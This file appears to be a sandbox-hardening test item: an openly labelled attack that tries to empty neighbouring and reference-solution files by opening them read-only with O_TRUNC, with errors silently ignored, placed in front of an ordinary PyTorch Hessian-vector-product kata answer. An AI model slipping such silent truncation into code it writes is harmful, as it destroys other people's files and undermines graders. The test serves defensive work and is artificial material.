# attack: file_emptied_by_reading
# class: Reaching out
# item: files
# tries: to empty files that may be read, by opening them for reading with O_TRUNC
# after: no file is changed
# kata: hvp
# earns: 10
# needs: landlock or seccomp
# leaves: what its owner may write can be emptied

import os

import torch

for path in ("@neighbour@", "@solution@"):
    try:
        os.close(os.open(path, os.O_RDONLY | os.O_TRUNC))
    except OSError:
        pass


def hessian_vector_product(loss, params, vector):
    slopes = torch.autograd.grad(loss, params, create_graph=True)
    return torch.autograd.grad(slopes, params, vector, create_graph=True)
